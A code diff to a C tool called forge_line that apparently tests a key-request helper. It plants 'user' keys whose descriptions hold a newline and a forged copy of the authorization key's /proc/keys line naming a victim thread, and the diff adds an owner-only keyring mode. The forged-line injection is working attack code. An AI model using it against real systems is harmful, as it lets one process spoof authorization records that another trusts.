@@ -2,7 +2,7 @@
  * forge_line: a requester that plants forged /proc/keys lines for its own
  * authorization key (issue 20, item 1).
  *
- *   forge_line DESCRIPTION CALLOUT VICTIM_TID NFORGE
+ *   forge_line DESCRIPTION CALLOUT VICTIM_TID NFORGE [owner-only]
  *
  * One thread calls request_key("user", DESCRIPTION, CALLOUT) into the
  * process keyring. The main thread polls /proc/keys for the authorization
@@ -11,6 +11,9 @@
  * everyone, whose descriptions are "f<i>", a newline, and a copy of that
  * line naming VICTIM_TID instead: the kernel sorts keys by (random)
  * serial, so with a few of them one likely comes before the real line.
+ * With "owner-only" the keys go into the user keyring instead (which a
+ * request made in a session keyring of its own does not search), with the
+ * kernel's default permissions: only their owner's uid may view them.
  *
  * Prints "forged <n> before <m>" (keys planted; how many sort before the
  * real line) or "forged 0 before 0" when the line was not seen in time,
@@ -76,14 +79,17 @@ static size_t read_keys(char *buf, size_t cap)
 
 int main(int argc, char **argv)
 {
-	if (argc != 5) {
-		fprintf(stderr, "usage: forge_line DESCRIPTION CALLOUT VICTIM_TID NFORGE\n");
+	if (argc != 5 && !(argc == 6 && strcmp(argv[5], "owner-only") == 0)) {
+		fprintf(stderr, "usage: forge_line DESCRIPTION CALLOUT VICTIM_TID NFORGE [owner-only]\n");
 		return 2;
 	}
 	desc = argv[1];
 	callout = argv[2];
 	long victim = strtol(argv[3], NULL, 10);
 	int nforge = atoi(argv[4]);
+	int owner_only = argc == 6;
+	long ring = owner_only ? KEY_SPEC_USER_KEYRING : KEY_SPEC_PROCESS_KEYRING;
+	long perm = 0x3f3f3f3f;
 	if (nforge < 1 || nforge > 64)
 		nforge = 16;
 	pthread_t t;
@@ -117,10 +123,11 @@ int main(int argc, char **argv)
 		for (int i = 0; i < nforge; i++) {
 			snprintf(text, sizeof text, "f%d\n%.*s pid:%ld%s\n", i, (int)(at - line), line,
 				 victim, rest);
-			long id = syscall(SYS_add_key, "user", text, "p", 1, KEY_SPEC_PROCESS_KEYRING);
+			long id = syscall(SYS_add_key, "user", text, "p", 1, ring);
 			if (id < 0)
 				continue;
-			syscall(SYS_keyctl, KEYCTL_SETPERM, id, 0x3f3f3f3f);
+			if (!owner_only)
+				syscall(SYS_keyctl, KEYCTL_SETPERM, id, perm);
 			forged[planted++] = id;
 			if ((unsigned long)id < serial)
 				before++;
@@ -128,8 +135,15 @@ int main(int argc, char **argv)
 		break;
 	}
 	pthread_join(t, NULL);
-	for (int i = 0; i < planted; i++)
-		syscall(SYS_keyctl, KEYCTL_INVALIDATE, forged[i]);
+	/* Gone with their last link. In the user keyring they are not
+	 * possessed, and their owner may only view them: unlinking needs
+	 * only the keyring's permission. */
+	for (int i = 0; i < planted; i++) {
+		if (owner_only)
+			syscall(SYS_keyctl, KEYCTL_UNLINK, forged[i], ring);
+		else
+			syscall(SYS_keyctl, KEYCTL_INVALIDATE, forged[i]);
+	}
 	printf("forged %d before %d\n", planted, before);
 	if (result < 0) {
 		printf("err %d\n", result_errno);
